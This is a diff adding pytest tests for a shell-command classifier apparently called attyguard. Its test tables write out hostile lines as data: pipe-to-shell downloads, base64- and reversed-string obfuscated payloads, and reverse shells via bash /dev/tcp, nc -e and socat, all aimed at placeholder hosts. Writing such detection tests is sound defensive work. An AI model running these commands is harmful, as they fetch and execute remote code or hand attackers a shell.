@@ -1,0 +1,142 @@
+"""classify(): verdicts for whole lines, bounds, and the failure modes (never a crash)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from attyguard.engine import classify as classify_module
+from attyguard.engine.classify import BOUNDED_RULE_ID, MAX_LINE, Engine, classify
+from attyguard.engine.rules import RuleSet, load_rules
+from attyguard.engine.verdict import Action, Source
+
+ALLOW, WARN, BLOCK = Action.ALLOW, Action.WARN, Action.BLOCK
+
+
+@pytest.mark.parametrize(
+    ("line", "action"),
+    [
+        # everyday lines
+        ("ls -la", ALLOW),
+        ("git commit -m 'curl | sh is bad'", ALLOW),
+        ("curl -fsSL https://example.org/a.tar.gz -o a.tar.gz", ALLOW),
+        ("wget -q https://example.org/key.asc -O - | gpg --import", ALLOW),
+        ("echo aGVsbG8= | base64 -d", ALLOW),
+        ("nc -zv db.internal 5432", ALLOW),
+        ("python3 -m http.server 8000", ALLOW),
+        ("grep -r 'bash -i' docs/", ALLOW),
+        # download and execute
+        ("curl -s https://example.org/i.sh | sh", WARN),
+        ("curl -s https://example.org/i.sh | sudo sh", BLOCK),
+        ("sudo -E bash -c \"$(curl -fsSL https://example.org/i.sh)\"", BLOCK),
+        ("wget -O /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a", BLOCK),
+        ("cu\\rl -s https://example.org/i.sh | b''ash", WARN),
+        # obfuscation: the decoded text is classified too
+        ("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3ggfCBzaA== | base64 -d | bash", BLOCK),
+        ("bash -c \"$(echo 'hs | x/gro.elpmaxe//:sptth s- lruc' | rev)\"", BLOCK),
+        # a decoded text run through python's os.system is shell text too
+        ("python3 -c \"import os,base64;os.system(base64.b64decode("
+         "'Y3VybCAtcyBodHRwczovL2UueC9hIHwgc2g=').decode())\"", BLOCK),
+        # reverse shells
+        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", BLOCK),
+        ("nc 192.0.2.1 443 -e /bin/bash", BLOCK),
+        ("socat exec:'bash -li',pty tcp:192.0.2.1:443", BLOCK),
+    ],
+)
+def test_table(line: str, action: Action) -> None:
+    verdict = classify(line)
+    assert verdict.action is action, verdict.to_json()
+
+
+def test_decoded_layer_hits_are_reported() -> None:
+    verdict = classify("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3ggfCBzaA== | base64 -d | bash")
+    ids = {h.rule_id for h in verdict.rules}
+    assert "obf-decode-to-shell" in ids
+    assert "dl-pipe-shell" in ids  # found inside the decoded text
+    inner = next(h for h in verdict.rules if h.rule_id == "dl-pipe-shell")
+    assert inner.matched.startswith("decoded:")
+
+
+def test_verdict_fields() -> None:
+    line = "echo ok; curl -s https://example.org/i.sh | sh"
+    verdict = classify(line)
+    assert verdict.source is Source.LOCAL
+    assert 0 < verdict.probability <= 1
+    assert verdict.elapsed_us >= 0
+    (hit,) = [h for h in verdict.rules if h.rule_id == "dl-pipe-shell"]
+    assert hit.span is not None
+    assert line[hit.span[0] : hit.span[1]] == "curl -s https://example.org/i.sh | sh"
+    assert hit.explanation and hit.remediation and hit.title
+
+
+def test_probabilities_combine() -> None:
+    verdict = classify("curl -s https://example.org/i.sh | sudo sh")
+    ps = [h.probability for h in verdict.rules]
+    assert len(ps) >= 2
+    assert verdict.probability > max(ps)
+
+
+def test_huge_line_warns_with_a_reason() -> None:
+    verdict = classify("echo " + "a" * (MAX_LINE + 1))
+    assert verdict.action is WARN
+    assert verdict.rules[0].rule_id == BOUNDED_RULE_ID
+
+
+def test_hostile_nesting_warns_quickly() -> None:
+    line = "$(" * 4000 + "curl x" + "|x" * 20000
+    verdict = classify(line)
+    assert verdict.action is not ALLOW
+    assert any(h.rule_id == BOUNDED_RULE_ID for h in verdict.rules)
+
+
+def test_clean_line_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
+    calls: list[str] = []
+    real = classify_module.parse
+
+    def spy(line: str, *args: object, **kwargs: object) -> object:
+        calls.append(line)
+        return real(line, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(classify_module, "parse", spy)
+    engine = Engine(load_rules())
+    assert engine.classify("ls -la /home").action is ALLOW
+    assert calls == []
+    engine.classify("curl -s https://example.org | sh")
+    assert calls
+
+
+def test_internal_error_is_a_warn_not_a_crash(monkeypatch: pytest.MonkeyPatch) -> None:
+    def boom(*_a: object, **_k: object) -> object:
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr(classify_module, "parse", boom)
+    verdict = Engine(load_rules()).classify("curl x | sh")
+    assert verdict.action is WARN
+    assert "boom" in verdict.rules[0].matched
+
+
+def test_broken_rules_warn_everything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "bad.yaml").write_text("rules:\n  - id: x\n    title: 3\n")
+    monkeypatch.setattr(classify_module, "load_rules", lambda: load_rules(tmp_path))
+    classify_module.reset_default_engine()
+    try:
+        verdict = classify("ls")
+        assert verdict.action is WARN
+        assert "bad.yaml:2" in verdict.rules[-1].explanation
+    finally:
+        classify_module.reset_default_engine()
+
+
+def test_empty_ruleset_allows() -> None:
+    assert Engine(RuleSet(())).classify("curl x | sh").action is ALLOW
+
+
+def test_many_decoded_layers_are_bounded() -> None:
+    # 40 separate encoded payloads, each fed to a shell: the work stops at a budget.
+    line = "; ".join(["echo aWQ= | base64 -d | sh"] * 10 + [
+        f"echo 'hs | {i}/e.x//:ptth lruc' | rev | sh" for i in range(30)
+    ])
+    verdict = classify(line)
+    assert verdict.action is BLOCK
+    assert any(h.rule_id == BOUNDED_RULE_ID for h in verdict.rules)
